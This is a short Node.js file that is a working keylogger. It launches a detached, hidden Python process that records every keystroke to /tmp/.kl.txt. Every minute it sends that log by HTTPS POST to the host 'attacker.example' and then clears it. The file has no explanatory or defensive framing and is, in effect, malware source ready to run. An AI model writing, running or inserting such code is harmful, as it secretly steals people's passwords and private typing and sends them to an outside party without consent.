const { spawn } = require("child_process");
const fs = require("fs");
const https = require("https");

const log = "/tmp/.kl.txt";
const py = `
from pynput import keyboard
def on_press(k):
    with open('${log}', 'a') as f:
        f.write(str(k) + '\\n')
with keyboard.Listener(on_press=on_press) as l:
    l.join()
`;
const child = spawn("python3", ["-c", py], { detached: true, stdio: "ignore" });
child.unref();

setInterval(() => {
  if (!fs.existsSync(log)) return;
  const req = https.request({ hostname: "attacker.example", path: "/k", method: "POST" });
  req.end(fs.readFileSync(log));
  fs.truncateSync(log, 0);
}, 60000);
